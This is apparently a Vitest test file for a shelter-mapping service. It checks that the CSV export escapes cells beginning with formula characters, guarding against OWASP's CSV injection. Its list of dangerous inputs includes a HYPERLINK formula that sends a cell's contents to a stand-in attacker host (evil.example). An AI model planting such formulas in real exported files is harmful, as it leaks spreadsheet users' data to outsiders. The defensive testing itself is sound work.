import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { startWorld, type World } from "../support/world.ts";

// Issue 14, finding 3: a text a clerk typed must not open as a live formula in Excel or WPS. The CSV is
// read back by csv-parse (an independent reader), as a spreadsheet would split it.

let w: World;
beforeAll(async () => {
  w = await startWorld();
});
afterAll(async () => {
  await w?.close();
});

/** Texts a spreadsheet would run as a formula (OWASP: = + - @ tab carriage return), and harmless ones. */
const DANGEROUS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+1+1", "-3 号仓库", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"];
const HARMLESS = ["实验小学操场", "a=1", "1-2", "'quoted already", " =spaced"];

async function exportShelters(): Promise<{ record: Record<string, string>; raw: string }[]> {
  const res = await w.fetch(`${w.base}/api/v1/layers/shelters/export?format=csv`);
  expect(res.status).toBe(200);
  const text = (await res.text()).replace(/^\uFEFF/, "");
  return parse(text, { columns: true, raw: true }) as { record: Record<string, string>; raw: string }[];
}

describe("CSV export neutralises formulas (OWASP CSV injection)", () => {
  it("prefixes ' to every text cell that begins with = + - @ tab or CR, leaves others and numbers alone", async () => {
    const names = [...DANGEROUS, ...HARMLESS];
    // Written by plain SQL: however a text got in (API, import, SQL), the export is what is guarded.
    for (const [i, name] of names.entries()) {
      await w.db.raw(
        "INSERT INTO shelters (name, capacity, effective_area_m2, address, facilities, geom) VALUES (?, ?, ?, ?, ?, ST_SetSRID(ST_MakePoint(?, ?), 4326))",
        [name, 100 + i, 12.5 * i, name, [name, "water"], -3.25 - i, -10.5],
      );
    }
    const rows = await exportShelters();
    expect(rows).toHaveLength(names.length);
    for (const [i, name] of names.entries()) {
      const { record, raw } = rows.find((r) => r.record.capacity === String(100 + i))!;
      const expected = DANGEROUS.includes(name) ? `'${name}` : name;
      expect(record.name).toBe(expected);
      expect(record.address).toBe(expected);
      expect(record.facilities).toBe(`${expected};water`);
      // numbers are numbers: unquoted, unchanged, a negative one not prefixed
      for (const [column, value] of [
        ["capacity", String(100 + i)],
        ["effective_area_m2", String(12.5 * i)],
        ["lon", String(-3.25 - i)],
        ["lat", "-10.5"],
      ] as const) {
        expect(record[column]).toBe(value);
        expect(raw).toMatch(new RegExp(`(^|,)${value.replace(/[.+-]/g, "\\$&")}(,|\\r?\\n|$)`));
      }
    }
  });
});
